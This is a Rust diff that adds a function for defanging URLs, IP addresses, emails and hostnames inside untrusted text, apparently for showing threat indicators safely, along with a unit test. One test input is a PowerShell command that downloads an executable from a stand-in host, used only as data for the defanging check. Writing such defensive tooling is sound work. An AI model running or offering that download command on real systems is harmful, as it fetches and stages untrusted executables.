@@ -36,6 +36,59 @@ impl Visible {
         // A scheme and its stand-in are equally wide.
         Visible::from_parts(text, self.width() + brackets)
     }
+
+    /// The text with every address in it defanged, for copying what may be anything: a path, a command, a host.
+    ///
+    /// The text is read word by word, blanks, quotes and brackets between them. A word with `://` or `@` in it, an address of
+    /// digits, and a name with dots that ends like no file's is an address; paths stay readable.
+    #[must_use]
+    pub fn disarmed(&self) -> Visible {
+        let is_border = |c: char| c.is_whitespace() || BORDERS.contains(&c);
+        let mut disarmed = Visible::default();
+        let mut rest = self.as_str();
+        while !rest.is_empty() {
+            let (word, after) = rest.split_at(rest.find(is_border).unwrap_or(rest.len()));
+            let word = Visible::from_parts(word.to_owned(), 0);
+            let safe = if is_address(word.as_str()) { word.defanged() } else { word };
+            let end = after.find(|c: char| !is_border(c)).unwrap_or(after.len());
+            let (border, next) = after.split_at(end);
+            disarmed = Visible::from_parts(
+                disarmed.as_str().to_owned() + safe.as_str() + border,
+                disarmed.width() + safe.width(),
+            );
+            rest = next;
+        }
+        // Brackets are all that is added, a column each.
+        let added = disarmed.width();
+        Visible::from_parts(disarmed.into(), self.width() + added)
+    }
+}
+
+/// What stands around words, beside blanks.
+const BORDERS: [char; 12] = ['"', '\'', '`', '<', '>', '(', ')', '{', '}', ',', ';', '|'];
+
+/// Last parts of names that are files rather than hosts.
+const FILE_ENDS: [&str; 40] = [
+    "exe", "dll", "sys", "txt", "js", "jse", "vbs", "vbe", "ps1", "bat", "cmd", "tmp", "dat", "db", "json", "xml",
+    "ini", "log", "lnk", "zip", "rar", "7z", "png", "jpg", "gif", "ico", "pdf", "doc", "docx", "docm", "xls", "xlsx",
+    "hta", "msi", "scr", "apk", "jar", "dex", "so", "bin",
+];
+
+/// Whether a word would be taken for an address by a program that makes links.
+fn is_address(word: &str) -> bool {
+    let is_path = word.contains('\\') || word.as_bytes().get(1) == Some(&b':') || word.starts_with('/');
+    let digits = word.split([':', '/']).next().unwrap_or_default();
+    if word.contains("://") || digits.parse::<std::net::IpAddr>().is_ok() || word.parse::<std::net::IpAddr>().is_ok() {
+        return true;
+    }
+    if is_path {
+        return false;
+    }
+    let host = word.split(['/', ':', '?', '#', '=']).next().unwrap_or_default();
+    let last = host.trim_end_matches(JOINTS).rsplit(JOINTS).next().unwrap_or_default();
+    let is_name = last.chars().count() >= 2 && last.chars().all(char::is_alphabetic);
+    let has_dot = host.trim_end_matches(JOINTS).contains(JOINTS);
+    word.contains('@') && has_dot || has_dot && is_name && !FILE_ENDS.contains(&last.to_ascii_lowercase().as_str())
 }
 
 /// The harmless form of a leading scheme, and what follows the scheme.
@@ -54,6 +107,26 @@ mod tests {
 
     fn defanged(text: &str) -> String {
         Untrusted::from(text).visible().defanged().into()
+    }
+
+    #[test]
+    fn addresses_inside_of_other_text_lose_their_teeth_and_paths_stay() {
+        for (text, harmless) in [
+            (r"C:\Users\a\stage.js", r"C:\Users\a\stage.js"),
+            ("svchost.exe", "svchost.exe"),
+            (
+                "powershell -c iwr http://a.example/x.exe -o x.exe",
+                "powershell -c iwr hxxp[:]//a[.]example/x[.]exe -o x.exe",
+            ),
+            ("ping a.example:80 (192.0.2.1)", "ping a[.]example[:]80 (192[.]0[.]2[.]1)"),
+            ("me@mail.example", "me[@]mail[.]example"),
+            ("a.example → 192.0.2.7", "a[.]example → 192[.]0[.]2[.]7"),
+            ("WMI:Win32_Process", "WMI:Win32_Process"),
+        ] {
+            let found = Untrusted::from(text).visible().disarmed();
+            assert_eq!(found.as_str(), harmless);
+            assert_eq!(found.width(), found.as_str().chars().count());
+        }
     }
 
     #[test]
